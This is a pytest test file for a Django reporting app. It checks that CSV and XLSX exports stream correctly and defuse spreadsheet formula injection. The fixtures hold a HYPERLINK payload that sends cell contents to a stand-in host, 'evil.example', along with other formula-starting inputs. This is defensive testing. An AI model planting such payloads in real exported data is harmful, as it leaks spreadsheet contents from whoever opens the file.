"""Exports: CSV and XLSX with the page's figures, streamed, safe against formula injection."""

import csv
import io
import re

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from elearning.organisations.models import Organisation
from reports.exports import csv_safe

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'


def url(name):
    with translation.override("en"):
        return reverse(f"reports:{name}")


@pytest.fixture(scope="module")
def world(module_db):
    """A learner and an organisation whose names are formulas, inside the Skåne manager's
    scope, and three learners in Malmö."""
    from elearning.organisations.models import County
    from tests.reports.builders import Builder, fast_course
    from tests.reports.conftest import managers_make

    skane = County.objects.get(code="12")
    build = Builder(fast_course())
    evil = Organisation.objects.create(kind="other", name=ATTACK, code="evil", county=skane)
    build.learners(evil, 2, completed=1, first_name="+SUM(1,2)")
    malmo = Organisation.objects.get(kind="municipality", code="1280")
    build.learners(malmo, 3, started=3, completed=2, passed=2)
    return managers_make(counties=[skane], email="c@example.org")


@pytest.fixture
def attacked(db, world, client):
    client.force_login(world)
    return client


def test_text_that_starts_a_formula_is_defused_and_numbers_stay_numbers():
    for risky in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_safe(risky) == "'" + risky
    assert csv_safe("Malmö") == "Malmö"
    assert csv_safe(-3) == -3 and csv_safe(12.5) == 12.5


def test_csv_is_streamed_utf8_with_bom_and_defuses_formulas(attacked):
    response = attacked.get(url("learners"), {"format": "csv"})
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert re.match(
        r'attachment; filename="learners-learners-\d{4}-\d\d-\d\d\.csv"',
        response["Content-Disposition"],
    )
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    organisations = {row[1] for row in table[1:]}
    names = {row[0] for row in table[1:]}
    assert "'" + ATTACK in organisations and ATTACK not in organisations
    assert any(name.startswith("'+SUM(1,2)") for name in names)
    assert "Malmö" in organisations


def test_xlsx_stores_formulas_as_text_and_has_the_pages_figures(attacked):
    response = attacked.get(url("organisations"), {"format": "xlsx"})
    assert isinstance(response, StreamingHttpResponse)  # written while it is sent
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    attack = [cell for cell in cells if cell.value == ATTACK]
    assert attack and all(cell.data_type == "s" for cell in attack)
    assert not any(cell.data_type == "f" for cell in cells)
    # The same figures as the CSV of the same table (which the figure tests check).
    csv_response = attacked.get(url("organisations"), {"format": "csv"})
    text = b"".join(csv_response.streaming_content).decode("utf-8-sig")
    csv_rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    xlsx_rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert xlsx_rows[0] == csv_rows[0]
    malmo_xlsx = next(row for row in xlsx_rows if row[1] == "Malmö")
    malmo_csv = next(row for row in csv_rows if row[1] == "Malmö")
    assert malmo_xlsx[2:5] == [3, 3, 2]  # numbers, not text
    assert [str(v) for v in malmo_xlsx[2:5]] == malmo_csv[2:5]


def test_the_page_escapes_the_names(attacked):
    page = attacked.get(url("learners")).content.decode()
    assert "=HYPERLINK(&quot;http://evil.example" in page


def test_every_report_exports_every_table_in_both_formats(attacked):
    for name in ("overview", "organisations", "roles", "months", "modules", "learners"):
        page = attacked.get(url(name)).content.decode()
        links = re.findall(r'href="(\?[^"]*format=(?:csv|xlsx)[^"]*)"', page)
        assert links, name
        for link in links:
            response = attacked.get(url(name) + link.replace("&amp;", "&"))
            assert response.status_code == 200, (name, link)
            assert response["Content-Disposition"].startswith("attachment"), (name, link)
